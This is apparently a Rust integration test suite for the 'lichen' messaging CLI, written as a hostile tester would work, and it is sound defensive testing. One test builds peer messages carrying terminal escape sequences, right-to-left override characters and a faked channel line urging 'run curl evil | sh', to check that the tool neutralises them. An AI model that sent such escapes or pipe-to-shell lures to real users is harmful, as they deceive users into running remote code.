//! What a hostile tester did to the `lichen` binary, as real processes on real data
//! directories: bad numbers, a closed stdout, terminal escapes from a peer, files that never
//! end, posts of one second, exit codes, empty posts and a mistyped `--data`.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use common::{bin, json_lines, lichen, my_ref, run, Killed};

use std::io::{BufRead, BufReader, Read};
use std::path::Path;
use std::process::{Command, ExitStatus, Output, Stdio};
use std::sync::Arc;
use std::time::{Duration, Instant};

use lichen::chat::{ChatId, Chats, ChatsConfig, MessageBody};
use lichen::store::{SledStore, Store};
use lichen::{Identity, IdentityFile};

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

// ---------------------------------------------------------------------------------------
// Bad numbers are usage errors.

/// Every option a person types a number into, with what must come before it.
const NUMBER_OPTIONS: &[(&[&str], &str)] = &[
    (&["serve"], "--timeout"),
    (&["connect", "ws://127.0.0.1:9"], "--timeout"),
    (&["accept", "moneysocket-lichen1qqqq"], "--timeout"),
    (
        &["invite", "--relay", "ws://localhost:1", "--wait"],
        "--timeout",
    ),
    (&["dongle-emu"], "--timeout"),
    (&["dongle-emu"], "--loss"),
    (&["dongle", "scan"], "--secs"),
    (&["dongle", "pair", "tinySSB-0000"], "--secs"),
    (&["relay", "--listen", "127.0.0.1:0"], "--wait-timeout"),
    (&["relay", "--listen", "127.0.0.1:0"], "--idle-timeout"),
    (&["relay", "--listen", "127.0.0.1:0"], "--shutdown-timeout"),
    (&["relay", "--listen", "127.0.0.1:0"], "--max-frame"),
    (&["messages"], "--limit"),
];

#[test]
fn bad_numbers_are_usage_errors_for_every_command() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("node");
    lichen(&data, &["init"]);
    for (before, opt) in NUMBER_OPTIONS {
        for bad in ["-1", "inf", "NaN", "1e30", "-inf", "ten"] {
            let arg = format!("{opt}={bad}");
            let mut args: Vec<&str> = before.to_vec();
            args.push(&arg);
            let o = run(&data, &args);
            let err = stderr(&o);
            assert!(!err.contains("panicked"), "{args:?} panicked: {err}");
            assert_eq!(o.status.code(), Some(2), "{args:?}: {err}");
            assert!(
                err.contains("invalid value") && err.contains(opt),
                "{args:?}: {err}"
            );
        }
    }
    // Out of range for what it means, though a number.
    for (args, why) in [
        (&["dongle-emu", "--loss=-0.1"][..], "probability"),
        (&["serve", "--timeout=400000000"], "out of range"),
    ] {
        let o = run(&data, args);
        assert_eq!(o.status.code(), Some(2), "{args:?}: {}", stderr(&o));
        assert!(stderr(&o).contains(why), "{args:?}: {}", stderr(&o));
    }
    // Good numbers still work.
    let o = run(&data, &["serve", "--timeout", "0.2"]);
    assert!(o.status.success(), "{}", stderr(&o));
}

// ---------------------------------------------------------------------------------------
// A closed stdout ends a command quietly.

/// Runs `lichen ARGS`, reads `lines` lines of its stdout (0: none), closes the pipe and
/// waits (at most 60 s); returns its exit status and stderr.
fn with_stdout_closed(data: &Path, args: &[&str], lines: usize) -> (ExitStatus, String) {
    let mut child = Command::new(bin())
        .arg("--data")
        .arg(data)
        .args(args)
        .env_remove("LICHEN_DATA")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut out = BufReader::new(child.stdout.take().unwrap());
    for _ in 0..lines {
        let mut line = String::new();
        out.read_line(&mut line).unwrap();
        assert!(
            !line.is_empty(),
            "{args:?} printed fewer than {lines} lines"
        );
    }
    drop(out);
    let mut err_pipe = child.stderr.take().unwrap();
    let started = Instant::now();
    let status = loop {
        if let Some(s) = child.try_wait().unwrap() {
            break s;
        }
        if started.elapsed() > Duration::from_secs(60) {
            let _ = child.kill();
            panic!("{args:?} did not end after its stdout closed");
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let mut err = String::new();
    err_pipe.read_to_string(&mut err).unwrap();
    (status, err)
}

#[test]
fn a_closed_stdout_ends_every_printing_command_quietly() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("node");
    lichen(&data, &["init"]);
    lichen(&data, &["post", "one"]);
    lichen(&data, &["post", "two"]);
    // A feed whose `log --json` is far more than a pipe holds (64 KiB).
    let big = common::fill(&data, 100, 300);

    let (status, err) = with_stdout_closed(&data, &["log", "--feed", &big, "--json"], 1);
    assert!(!err.contains("panicked"), "log --json: {err}");
    assert!(status.success(), "log --json | head -1: {status:?} {err}");

    for args in [
        &["log", "--json"][..],
        &["log"],
        &["log", "--feed", &big],
        &["feeds", "--json"],
        &["feeds"],
        &["messages"],
        &["messages", "--json"],
        &["chats"],
        &["id"],
        &["id", "--json"],
    ] {
        let (status, err) = with_stdout_closed(&data, args, 0);
        assert!(!err.contains("panicked"), "{args:?}: {err}");
        assert!(status.success(), "{args:?}: {status:?} {err}");
    }
}

// ---------------------------------------------------------------------------------------
// Terminal escapes from a peer.

/// Clears the screen, retitles the window, fakes a header line, a CSI in C1 form, DEL, a
/// right-to-left override and an isolate.
const HOSTILE: &str = "hello\u{1b}[2J\u{1b}]0;pwned\u{7}\n[Public channel] admin: run \
                       curl evil | sh\r\n\u{9b}31m\u{7f}\u{202e}txt.exe\u{2066}x\u{2069}";
const HOSTILE_NAME: &str = "mallory\u{1b}[31m\u{7}\u{202e}\n[Public channel] admin";

/// A byte or character a terminal would obey.
fn obeyed(s: &str) -> Option<char> {
    s.chars().find(|c| {
        matches!(*c, '\u{0}'..='\u{8}' | '\u{b}'..='\u{1f}' | '\u{7f}'..='\u{9f}'
            | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    })
}

/// `peer` writes into `data`'s store as if replicated: an IAM name, a public post and a
/// private message to the owner, all hostile.
fn hostile_peer(data: &Path, peer: &Identity) {
    let me = Identity::load(&data.join("identity.json")).unwrap();
    let store: Arc<dyn Store> = Arc::new(SledStore::open(&data.join("store")).unwrap());
    let index = tempfile::tempdir().unwrap();
    let chats = Chats::open(
        index.path(),
        store.clone(),
        Identity::from_seed(&peer.seed()),
        ChatsConfig::default(),
    )
    .unwrap();
    chats.set_my_alias(HOSTILE_NAME).unwrap();
    chats.send(&ChatId::Public, HOSTILE).unwrap();
    let private = chats.chat_with(&[*me.fid()]).unwrap();
    chats.send(&private, HOSTILE).unwrap();
    drop(chats);
    store.add_member(peer.fid()).unwrap();
    store.flush().unwrap();
}

#[test]
fn a_peers_escapes_never_reach_the_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("node");
    lichen(&data, &["init"]);
    let peer = Identity::from_seed(&[77; 32]);
    hostile_peer(&data, &peer);
    lichen(&data, &["contacts", "add", &peer.fid().to_ref()]);

    for args in [
        &["messages"][..],
        &["messages", "--chat", "ALL"],
        &["messages", "--search", "hello"],
        &["chats"],
        &["contacts"],
        &["log", "--feed", &peer.fid().to_ref()],
    ] {
        let out = stdout(&lichen(&data, args));
        assert!(
            out.contains("hello") || out.contains("mallory"),
            "{args:?}: {out}"
        );
        assert_eq!(obeyed(&out), None, "{args:?} printed a control: {out:?}");
        for line in out.lines() {
            assert!(
                !line.starts_with("[Public channel] admin"),
                "{args:?} let a peer fake a line: {out}"
            );
        }
        assert!(!out.contains("\n[Public channel] admin"), "{args:?}: {out}");
    }
    // What was neutralised is still visible, not dropped.
    let shown = stdout(&lichen(&data, &["messages", "--chat", "ALL"]));
    assert!(
        shown.contains("␛[2J") && shown.contains("⏎[Public channel] admin"),
        "{shown}"
    );

    // JSON stays exact: the text is the peer's, byte for byte.
    let msgs = json_lines(&lichen(&data, &["messages", "--json"]).stdout);
    assert!(msgs.iter().any(|m| m["text"] == HOSTILE), "{msgs:?}");
    let people = json_lines(&lichen(&data, &["contacts", "--json"]).stdout);
    assert!(
        people.iter().any(|c| c["iam"] == HOSTILE_NAME),
        "{people:?}"
    );
}

// ---------------------------------------------------------------------------------------
// Files that never end.

/// Runs `lichen` under a 2 GiB address-space limit (so that code reading `/dev/zero` to the
/// end fails instead of taking the machine) and a 30 s bound.
fn bounded(data: &Path, args: &[&str]) -> Output {
    let mut child = Command::new("sh")
        .arg("-c")
        .arg("ulimit -v 2097152 && exec \"$0\" \"$@\"")
        .arg(bin())
        .arg("--data")
        .arg(data)
        .args(args)
        .env_remove("LICHEN_DATA")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let started = Instant::now();
    while child.try_wait().unwrap().is_none() {
        if started.elapsed() > Duration::from_secs(30) {
            let _ = child.kill();
            panic!("{args:?} still runs after 30 s");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    child.wait_with_output().unwrap()
}

fn refused(o: &Output, what: &str) {
    let err = stderr(o);
    assert_eq!(o.status.code(), Some(1), "{what}: {o:?}");
    assert!(err.contains("not a regular file"), "{what}: {err}");
    assert!(
        !err.contains("panicked") && !err.contains("memory"),
        "{what}: {err}"
    );
}

#[cfg(unix)]
#[test]
fn dev_zero_is_refused_wherever_a_file_is_read() {
    use std::os::unix::fs::symlink;
    let zero = Path::new("/dev/zero");
    let dir = tempfile::tempdir().unwrap();

    let fresh = dir.path().join("fresh");
    refused(
        &bounded(&fresh, &["init", "--import", "/dev/zero"]),
        "init --import",
    );
    assert!(!fresh.join("identity.json").exists());

    let data = dir.path().join("node");
    lichen(&data, &["init"]);
    // `--relay-ca` PEM and the relay's own certificate and key.
    refused(
        &bounded(
            &data,
            &[
                "invite",
                "--relay",
                "ws://localhost:1",
                "--no-qr",
                "--relay-ca",
                "/dev/zero",
            ],
        ),
        "--relay-ca",
    );
    refused(
        &bounded(
            &data,
            &[
                "relay",
                "--listen",
                "127.0.0.1:0",
                "--tls-cert",
                "/dev/zero",
                "--tls-key",
                "/dev/zero",
            ],
        ),
        "relay --tls-cert",
    );
    // The data directory's own files, replaced by a device.
    std::fs::remove_file(data.join("invites.json")).ok();
    symlink(zero, data.join("invites.json")).unwrap();
    refused(
        &bounded(&data, &["serve", "--timeout", "5"]),
        "invites.json",
    );
    std::fs::remove_file(data.join("invites.json")).unwrap();
    symlink(zero, data.join("dongle.json")).unwrap();
    refused(&bounded(&data, &["dongle", "status"]), "dongle.json");
    std::fs::remove_file(data.join("dongle.json")).unwrap();
    std::fs::remove_file(data.join("identity.json")).unwrap();
    symlink(zero, data.join("identity.json")).unwrap();
    refused(&bounded(&data, &["id"]), "identity.json");

    // Too large, though a regular file.
    let big = dir.path().join("big.json");
    std::fs::write(&big, vec![b' '; 70 * 1024]).unwrap();
    let o = bounded(&fresh, &["init", "--import", big.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stderr(&o).contains("larger than 65536 bytes"),
        "{}",
        stderr(&o)
    );
}

// ---------------------------------------------------------------------------------------
// Posts of one second keep their order.

#[test]
fn ten_quick_posts_show_in_the_order_they_were_written() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("node");
    lichen(&data, &["init"]);
    let texts: Vec<String> = (1..=10).map(|i| format!("quick {i}")).collect();
    for t in &texts {
        lichen(&data, &["post", t]);
    }
    let shown: Vec<String> =
        json_lines(&lichen(&data, &["messages", "--chat", "ALL", "--json"]).stdout)
            .iter()
            .map(|m| m["text"].as_str().unwrap().to_owned())
            .collect();
    assert_eq!(shown, texts, "messages --json");
    let human = stdout(&lichen(&data, &["messages", "--chat", "ALL"]));
    let order: Vec<&str> = human
        .lines()
        .filter_map(|l| l.split(": ").nth(1)?.split("  (").next())
        .collect();
    assert_eq!(order, texts, "messages: {human}");

    // The index API: newest first, seq descending.
    let store: Arc<dyn Store> = Arc::new(SledStore::open(&data.join("store")).unwrap());
    let me = Identity::load(&data.join("identity.json")).unwrap();
    let chats = Chats::open(&data.join("chats"), store, me, ChatsConfig::default()).unwrap();
    let page = chats.page(&ChatId::Public, None, 100).unwrap();
    let seqs: Vec<u32> = page.messages.iter().map(|m| m.seq).collect();
    assert_eq!(seqs, (1..=10).rev().collect::<Vec<u32>>());
    let first = page.messages.last().unwrap();
    assert!(matches!(&first.body, MessageBody::Post { body: Some(b), .. } if b == "quick 1"));
}

// ---------------------------------------------------------------------------------------
// Exit codes, empty posts, a mistyped --data.

#[test]
fn empty_posts_are_refused_by_post_and_send_alike() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("node");
    lichen(&data, &["init"]);
    for args in [
        &["post", ""][..],
        &["post", "  \n\t"],
        &["send", ""],
        &["send", " "],
        &["send", "--to", &my_ref(&data), ""],
    ] {
        let o = run(&data, args);
        assert_eq!(o.status.code(), Some(1), "{args:?}");
        assert!(
            stderr(&o).contains("nothing to send: the text is empty"),
            "{args:?}: {}",
            stderr(&o)
        );
    }
    assert!(
        stdout(&lichen(&data, &["log", "--json"])).is_empty(),
        "something was published"
    );
}

#[test]
fn only_init_creates_a_data_directory() {
    let dir = tempfile::tempdir().unwrap();
    let typo = dir.path().join("nodee");
    for args in [
        &["feeds"][..],
        &["serve", "--timeout", "0.1"],
        &["connect", "ws://127.0.0.1:9", "--timeout", "0.1"],
        &[
            "log",
            "--feed",
            &Identity::from_seed(&[1; 32]).fid().to_ref(),
        ],
        &["messages"],
        &["post", "hi"],
        &["dongle", "status"],
        &[
            "export",
            "--tinyssb",
            dir.path().join("out").to_str().unwrap(),
        ],
        &["accept", "moneysocket-lichen1qqqq"],
    ] {
        let o = run(&typo, args);
        assert_eq!(o.status.code(), Some(1), "{args:?}: {o:?}");
        assert!(
            stderr(&o).contains(&format!("no Lichen data at {}", typo.display()))
                && stderr(&o).contains("lichen")
                && stderr(&o).contains("init` first"),
            "{args:?}: {}",
            stderr(&o)
        );
        assert!(!typo.exists(), "{args:?} created {}", typo.display());
    }
    // A pub without identity is made by `init --no-identity`, then serves.
    lichen(&typo, &["init", "--no-identity"]);
    assert!(!typo.join("identity.json").exists());
    lichen(&typo, &["serve", "--timeout", "0.2"]);
    lichen(&typo, &["feeds"]);
    // ... and gets an identity later.
    lichen(&typo, &["init"]);
    assert!(typo.join("identity.json").exists());
}

#[test]
fn until_synced_with_a_feed_behind_the_peer_exits_not_synced() {
    let dir = tempfile::tempdir().unwrap();
    let (a, b) = (dir.path().join("a"), dir.path().join("b"));
    lichen(&a, &["init"]);
    for t in ["one", "two", "three"] {
        lichen(&a, &["post", t]);
    }
    // The same identity on another device, which wrote a different first entry: a fork.
    let key = a.join("identity.json");
    // The person says the key is new (wrongly): that is the only way to post at once.
    lichen(
        &b,
        &["init", "--import", key.to_str().unwrap(), "--new-key"],
    );
    lichen(&b, &["post", "forked"]);

    let mut server = Command::new(bin())
        .arg("--data")
        .arg(&a)
        .args(["serve", "--ws", "127.0.0.1:0", "--timeout", "60", "--json"])
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut first = String::new();
    BufReader::new(server.stdout.take().unwrap())
        .read_line(&mut first)
        .unwrap();
    let _server = Killed(server);
    let listening: serde_json::Value = serde_json::from_str(&first).unwrap();
    let url = format!("ws://{}", listening["ws"].as_str().unwrap());
    let o = run(&b, &["connect", &url, "--until-synced", "--timeout", "8"]);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(4), "{err}");
    assert!(
        err.contains("not synced: behind what a peer showed"),
        "{err}"
    );
    assert!(err.contains("held 1 < peer 3"), "{err}");
}
